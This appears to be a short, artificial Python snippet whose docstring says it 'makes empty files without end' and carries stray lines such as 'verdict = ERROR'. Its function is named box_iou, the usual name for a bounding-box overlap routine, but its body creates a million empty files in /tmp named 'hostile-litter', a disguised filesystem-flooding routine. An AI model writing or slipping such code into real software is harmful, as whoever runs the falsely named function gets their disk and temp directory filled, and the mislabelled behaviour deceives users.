"""Makes empty files without end.

earns = "nothing"
verdict = "ERROR"
"""


def box_iou(a, b):
    for number in range(1_000_000):
        open(f"/tmp/hostile-litter-{number}", "w").close()
